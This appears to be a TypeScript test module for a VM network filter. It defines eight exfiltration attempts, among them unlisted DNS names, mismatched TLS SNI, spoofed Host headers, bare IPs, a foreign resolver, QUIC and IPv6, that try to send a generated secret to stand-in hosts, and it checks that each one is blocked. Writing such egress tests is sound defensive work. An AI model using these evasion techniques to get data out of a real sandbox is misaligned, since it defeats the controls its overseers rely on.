/**
 * What a hostile job tries in order to send a secret to somebody who is not on its list. Each way works where there is no
 * list. It is judged by its effect: the other side has confirmed what it received.
 */

import { confirmation } from "../agent/package-registry.ts";
import type { TlsKey, WebAnswer } from "../agent/web-exchange.ts";
import { newSecret } from "../attacks/attack.ts";
import type { Guest } from "../guest.ts";
import { INTERNET, INTERNET6, PASTE_NAME, REGISTRY_NAME, STRANGER, STRANGER6 } from "../plan.ts";

/** Milliseconds until a program gives up that hears nothing: what is refused ends long before, also on a busy machine. */
export const GIVES_UP = 20_000;

export interface Tried {
  readonly succeeded: boolean;
  /** How the system told the program of its failure: Node's code of the error. */
  readonly code?: string;
}

export interface Attempt {
  readonly title: string;
  /** The drop reason with which softnet answers it. */
  readonly reason: string;
  /** The code with which it fails at once; one that waits in vain has another. */
  readonly code: string;
  /** What `softnet ctl VM explain` is asked about it. */
  readonly question: readonly string[];
  /** It is tried where the machine has IPv6 only. */
  readonly needsIPv6?: boolean;
  attempt(guest: Guest, key: TlsKey): Promise<Tried>;
}

const REFUSED = "ECONNREFUSED";
const RESET = "ECONNRESET";
export const QUIC_PORT = 443;

/** Sends a secret by HTTPS to an address, with a name in the hello. */
async function paste({ agent }: Guest, key: TlsKey, address: string, name: string): Promise<Tried> {
  const secret = newSecret();
  const answer = await agent.call("exchange", { address, name, key, body: secret, timeout: GIVES_UP });
  return judge(answer, confirmation(secret));
}

function judge(answer: WebAnswer, expected: string): Tried {
  if ("code" in answer) return { succeeded: false, code: answer.code };
  return { succeeded: Buffer.from(answer.body).toString() === expected };
}

const anotherName: Attempt = {
  title: "another name",
  reason: "dns.denied",
  code: "ENOTFOUND",
  question: ["out", "tcp", PASTE_NAME, "443"],
  async attempt(guest, key) {
    const question = { server: guest.lease.dns, name: PASTE_NAME, timeout: GIVES_UP };
    const { addresses, code } = await guest.agent.call("resolveName", question);
    const [address] = addresses;
    if (address === undefined) return { succeeded: false, ...(code !== undefined && { code }) };
    return paste(guest, key, address, PASTE_NAME);
  },
};

const foreignHello: Attempt = {
  title: "another name in a TLS hello",
  reason: "name.denied",
  code: RESET,
  question: ["out", "tcp", INTERNET, "443"],
  attempt: (guest, key) => paste(guest, key, INTERNET, PASTE_NAME),
};

const foreignHost: Attempt = {
  title: "another name in HTTP's Host",
  reason: "name.denied",
  code: RESET,
  question: ["out", "tcp", INTERNET, "80"],
  async attempt({ agent }) {
    const asked = { address: INTERNET, name: PASTE_NAME, body: newSecret(), timeout: GIVES_UP };
    return judge(await agent.call("exchange", asked), "welcome");
  },
};

const bareAddress: Attempt = {
  title: "an address alone",
  reason: "name.unpinned",
  code: REFUSED,
  question: ["out", "tcp", STRANGER, "443"],
  attempt: (guest, key) => paste(guest, key, STRANGER, PASTE_NAME),
};

const otherResolver: Attempt = {
  title: "another resolver",
  reason: "name.resolver",
  code: REFUSED,
  question: ["out", "udp", STRANGER, "53"],
  async attempt({ agent }) {
    const question = { server: STRANGER, name: PASTE_NAME, timeout: GIVES_UP };
    const { addresses, code } = await agent.call("resolveName", question);
    return { succeeded: addresses.length > 0, ...(code !== undefined && { code }) };
  },
};

const quic: Attempt = {
  title: "QUIC",
  reason: "name.quic",
  code: REFUSED,
  question: ["out", "udp", REGISTRY_NAME, `${QUIC_PORT}`],
  async attempt({ agent }) {
    const text = newSecret();
    const answer = await agent.call("askEcho", { address: INTERNET, port: QUIC_PORT, text, timeout: GIVES_UP });
    return "code" in answer ? { succeeded: false, code: answer.code } : { succeeded: answer.text === text };
  },
};

const foreignHello6: Attempt = {
  title: "a TLS hello by IPv6",
  reason: "name.denied",
  code: RESET,
  question: ["out", "tcp", INTERNET6, "443"],
  needsIPv6: true,
  attempt: (guest, key) => paste(guest, key, INTERNET6, PASTE_NAME),
};

const bareAddress6: Attempt = {
  title: "an IPv6 address alone",
  reason: "name.unpinned",
  code: REFUSED,
  question: ["out", "tcp", STRANGER6, "443"],
  needsIPv6: true,
  attempt: (guest, key) => paste(guest, key, STRANGER6, PASTE_NAME),
};

export const ATTEMPTS: readonly Attempt[] = [
  anotherName,
  foreignHello,
  foreignHost,
  bareAddress,
  otherResolver,
  quic,
  foreignHello6,
  bareAddress6,
];
